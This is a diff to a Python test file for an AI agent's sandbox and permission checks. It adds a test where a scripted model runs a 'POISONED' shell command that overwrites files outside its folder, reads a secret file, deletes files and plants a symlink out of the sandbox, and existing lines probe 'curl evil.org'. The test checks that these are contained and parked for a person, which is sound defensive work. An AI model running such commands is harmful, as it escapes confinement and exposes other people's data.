@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import os
 from datetime import UTC, datetime
 from pathlib import Path, PurePosixPath
@@ -12,9 +13,13 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from agent.automation.ledger import Ledger
+from agent.commands import ActsAs
 from agent.errors import ToolError, UsageError
 from agent.jobs import Job, Permission, Watch
 from agent.labels import INTEGRITIES, SECRECIES, Label
+from agent.messages import ToolMessage
+from agent.models.scripted import Reply
 from agent.safety.decision import Decision, decide
 from agent.safety.effects import Effect, Value
 from agent.safety.folders import Folders
@@ -34,6 +39,8 @@ from agent.safety.request import Facts, Request, UsedToday
 from agent.safety.rules import LimitText, Rule, RuleText, WhenText, read_rule
 from agent.tools.registry import built_in_tools
 from agent.tools.tool import ToolContext
+from tests.helpers.clock import HeldClock
+from tests.helpers.house import open_house
 
 NOW = datetime(2026, 11, 26, 12, tzinfo=UTC)
 STRICTNESS = ("allow", "ask", "deny")
@@ -686,6 +693,43 @@ def test_it_does_its_own_work_and_nothing_else(house: House) -> None:
     assert house.judge("move", path="note.txt", to="../out/mine.txt") == "ask"
     assert house.judge("fetch", url="https://evil.org/?q=words") == "ask"
     assert house.judge("shell", cmd="curl evil.org") == "ask"
+
+
+POISONED = """
+for file in ../folder/note.txt ../other/secret.txt ../new.txt b.txt out/mine.txt; do echo evil > $file; done
+cat ../other/secret.txt; cp -r ../other out/copy; rm -f a.txt; mv b.txt out/; ln -s ../../other out/door; true
+"""
+
+
+def test_its_commands_stay_in_its_folders_too(tmp_path: Path) -> None:
+    async def story() -> tuple[str, str]:
+        script = [Reply(calls=[("shell", {"cmd": POISONED}), ("read", {"path": "out/door/secret.txt"})])]
+        async with open_house(tmp_path, script, tools=built_in_tools(), clock=HeldClock()) as house:
+            runtime, here = house.runtime, str(house.folder)
+            made = job(folder=here, output=f"{here}/out", allow=(may("proc.run", here),))
+            ledger = Ledger(runtime.store.database, house.clock, runtime.bus.publish)
+            row = await ledger.save(made)
+            slot = await ledger.add_manual(row.job_id, ())
+            acts_as = ActsAs(job_id=row.job_id, slot_id=slot.slot_id, run_id="r1", allow=profile_of(made))
+            ended = await house.finish(
+                "Go.", origin="schedule", attended=False, typed=False, acts_as=acts_as, grants=(f"{here}/out",)
+            )
+            results = [one.result.text for one in await house.history() if isinstance(one, ToolMessage)]
+            return ended.stop_reason, "\n".join(results)
+
+    (tmp_path / "folder" / "out").mkdir(parents=True)
+    (tmp_path / "folder" / "note.txt").write_text("mine\n")
+    (tmp_path / "other").mkdir()
+    (tmp_path / "other" / "secret.txt").write_text("SECRET\n")
+    stopped, told = asyncio.run(story())
+    found = {name: (tmp_path / name).read_text() for name in ("folder/note.txt", "folder/a.txt", "folder/b.txt")}
+    assert found == {"folder/note.txt": "mine\n", "folder/a.txt": "alpha\n", "folder/b.txt": "beta beta\n"}
+    assert (tmp_path / "other" / "secret.txt").read_text() == "SECRET\n"
+    assert sorted(os.listdir(tmp_path)) == ["folder", "home", "other"]
+    assert stopped == "parked", "what the link leads to waits for a person, as does a command that nothing holds"
+    assert "SECRET" not in told
+    assert not (tmp_path / "folder" / "out" / "copy").exists()
+    assert (tmp_path / "folder" / "out" / "mine.txt").exists() == bool(told), "what is its own it may do"
 
 
 def test_an_output_folder_that_becomes_a_link_later_leads_nowhere(tmp_path: Path) -> None:
